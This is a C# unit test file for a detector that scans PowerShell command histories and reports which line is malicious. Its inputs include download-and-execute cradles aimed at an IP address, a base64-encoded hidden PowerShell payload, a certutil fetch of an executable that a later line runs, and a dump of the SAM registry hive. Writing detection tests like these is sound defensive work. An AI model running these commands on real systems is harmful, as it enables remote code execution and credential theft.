using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

public sealed class CommandHistoryTests
{
    private static IEnumerable<int> Lines(params string[] commands) => CommandHistory.Judge(string.Join("\r\n", commands)).Select(command => command.Line);

    [Fact]
    public void One_bad_line_names_its_line() =>
        Assert.Equal([2], Lines("Get-Service", "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')", "hostname"));

    [Fact]
    public void Variables_are_carried_to_the_line_that_uses_them() =>
        Assert.Equal([4], Lines("$u = 'http://198.51.100.7/p.ps1'", "Get-Date", "$c = New-Object Net.WebClient", "iex $c.DownloadString($u)", "$u"));

    [Fact]
    public void Pieces_put_together_over_several_lines_are_read() =>
        Assert.Equal([4], Lines("$a = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcA'",
            "$a += 'KAAnAGgAdAB0AHAAOgAvAC8AeAAvACcAKQA='", "whoami", "powershell -nop -w hidden -enc $a"));

    [Fact]
    public void A_file_fetched_on_one_line_and_run_on_another_is_seen_where_it_runs() =>
        Assert.Equal([3], Lines(@"cd C:\Windows\Temp", @"certutil -urlcache -split -f http://files.example/a.txt C:\Windows\Temp\a.exe",
            @"Start-Process C:\Windows\Temp\a.exe"));

    [Fact]
    public void Harmless_lines_do_not_add_up() => Assert.Empty(Lines(
        "Set-ExecutionPolicy Bypass -Scope Process -Force", "Invoke-WebRequest https://github.com/microsoft/CSS-Exchange/releases/latest/download/HealthChecker.ps1 -OutFile HealthChecker.ps1",
        @".\HealthChecker.ps1", "wevtutil cl Application", "net user svc-backup Secret!1 /add", "Add-MpPreference -ExclusionPath 'D:\\ExchangeDatabases'", "Stop-Service MSExchangeTransport",
        "vssadmin list shadows", "New-MailboxExportRequest -Mailbox jdoe -FilePath \\\\fs\\pst$\\jdoe.pst", "Get-Process lsass"));

    [Fact]
    public void Commands_of_several_lines_are_one() => Assert.Equal([2], Lines("Get-Date", "foreach ($u in 'http://198.51.100.7/p.ps1') {`", "  iex (New-Object Net.WebClient).DownloadString($u)`", "}", "exit"));

    [Fact]
    public void A_long_history_is_read_within_bounds()
    {
        var lines = Enumerable.Range(0, 20_000).Select(i => $"Get-ChildItem D:\\Logs\\{i % 50}").Append("reg save HKLM\\SAM C:\\s.dat");
        Assert.Equal(20_001, Assert.Single(CommandHistory.Judge(string.Join('\n', lines))).Line);
    }

    [Fact]
    public void A_long_command_that_every_later_one_builds_on_is_not_judged_again_without_end()
    {
        var lines = Enumerable.Range(0, 5_000).Select(i => $"Get-Item $a[{i}]").Prepend($"$a = '{new string('x', 100_000)}'").Append("reg save HKLM\\SAM C:\\s.dat");
        Assert.Equal(5_002, Assert.Single(CommandHistory.Judge(string.Join('\n', lines))).Line);
    }
}
